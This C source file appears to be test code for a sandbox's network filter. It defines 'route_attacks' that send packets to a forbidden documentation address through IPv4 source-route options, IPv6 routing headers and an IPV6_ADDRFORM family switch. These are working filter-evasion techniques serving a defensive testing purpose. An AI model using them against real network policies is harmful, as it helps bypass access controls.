/*
 * Packets whose first stop is not the address that the socket was given: source routes. The judge of a connect sees the
 * last stop; whoever sits at the first one reads what passes.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PORT = 7001, LOOSE_ROUTE = 131, STRICT_ROUTE = 137, SEGMENTS = 4, HOME_ADDRESS = 2 };

static struct sockaddr_in last_stop(void) {
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(PORT)};
	inet_pton(AF_INET, "198.51.100.1", &address.sin_addr);
	return address;
}

static struct sockaddr_in6 last_stop6(void) {
	struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
	inet_pton(AF_INET6, "2001:db8:1::1", &address.sin6_addr);
	return address;
}

static void route(unsigned char kind, unsigned char option[8]) {
	option[0] = kind;
	option[1] = 7;
	option[2] = 4;
	inet_pton(AF_INET, "192.0.2.1", option + 3);
	option[7] = 0;
}

static int by_option(int type, unsigned char kind) {
	unsigned char option[8];
	struct sockaddr_in address = last_stop();
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	route(kind, option);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_OPTIONS, option, sizeof option) != 0)
		return -1;
	if (type == SOCK_STREAM) { /* nobody answers: that the first packet leaves is what it is about */
		struct timeval patience = {0, 300000};
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
		return reached(connect(fd, (struct sockaddr *)&address, sizeof address), EINPROGRESS, EHOSTUNREACH);
	}
	return sendto(fd, attack_name, strlen(attack_name), 0, (struct sockaddr *)&address, sizeof address) < 0 ? -1 : 0;
}

static int route_udp(void) { return by_option(SOCK_DGRAM, LOOSE_ROUTE); }
static int route_udp_strict(void) { return by_option(SOCK_DGRAM, STRICT_ROUTE); }
static int route_tcp(void) { return by_option(SOCK_STREAM, LOOSE_ROUTE); }

/* A message with ancillary data, on a socket without options. */
static int with_ancillary(int fd, void *address, socklen_t length, int level, int kind, const void *data, size_t size) {
	char control[256];
	memset(control, 0, sizeof control);
	struct iovec part = {(void *)(unsigned long)attack_name, strlen(attack_name)};
	struct msghdr message = {address, length, &part, 1, control, CMSG_SPACE(size), 0};
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = level;
	head->cmsg_type = kind;
	head->cmsg_len = CMSG_LEN(size);
	memcpy(CMSG_DATA(head), data, size);
	return fd < 0 || sendmsg(fd, &message, 0) < 0 ? -1 : 0;
}

static int route_ancillary(void) {
	unsigned char option[8];
	struct sockaddr_in address = last_stop();
	route(LOOSE_ROUTE, option);
	return with_ancillary(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), &address, sizeof address, IPPROTO_IP, IP_RETOPTS, option, sizeof option);
}

/* An IPv6 routing header that goes by the forbidden address. */
static size_t header6(unsigned char kind, unsigned char header[40]) {
	memset(header, 0, 40);
	header[2] = kind;
	header[3] = 1; /* one segment is left */
	if (kind == HOME_ADDRESS) {
		header[1] = 2;
		inet_pton(AF_INET6, "2001:db8:bad::1", header + 8);
		return 24;
	}
	header[1] = 4;
	header[4] = 1; /* the last of two */
	inet_pton(AF_INET6, "2001:db8:1::1", header + 8);
	inet_pton(AF_INET6, "2001:db8:bad::1", header + 24);
	return 40;
}

static int by_header(unsigned char kind) {
	unsigned char header[40];
	struct sockaddr_in6 address = last_stop6();
	int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	size_t size = header6(kind, header);
	if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, header, (socklen_t)size) != 0)
		return -1;
	return sendto(fd, attack_name, strlen(attack_name), 0, (struct sockaddr *)&address, sizeof address) < 0 ? -1 : 0;
}

static int route6_segments(void) { return by_header(SEGMENTS); }
static int route6_home(void) { return by_header(HOME_ADDRESS); }

static int route6_ancillary(void) {
	unsigned char header[40];
	struct sockaddr_in6 address = last_stop6();
	size_t size = header6(SEGMENTS, header);
	return with_ancillary(socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0), &address, sizeof address, IPPROTO_IPV6, IPV6_RTHDR, header, size);
}

/* A socket of one family becomes one of the other. */
static int change_family(void) {
	struct sockaddr_in6 permitted = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
	struct sockaddr_in forbidden = {.sin_family = AF_INET, .sin_port = htons(PORT)};
	int four = AF_INET, fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	inet_pton(AF_INET6, "::ffff:198.51.100.1", &permitted.sin6_addr);
	inet_pton(AF_INET, "192.0.2.1", &forbidden.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&permitted, sizeof permitted) != 0)
		return -1;
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_ADDRFORM, &four, sizeof four) != 0)
		return -1;
	return sendto(fd, attack_name, strlen(attack_name), 0, (struct sockaddr *)&forbidden, sizeof forbidden) < 0 ? -1 : 0;
}

const struct attack route_attacks[] = {
    {"route_udp", route_udp},
    {"route_udp_strict", route_udp_strict},
    {"route_tcp", route_tcp},
    {"route_ancillary", route_ancillary},
    {"route6_segments", route6_segments},
    {"route6_home", route6_home},
    {"route6_ancillary", route6_ancillary},
    {"change_family", change_family},
    {NULL, NULL},
};
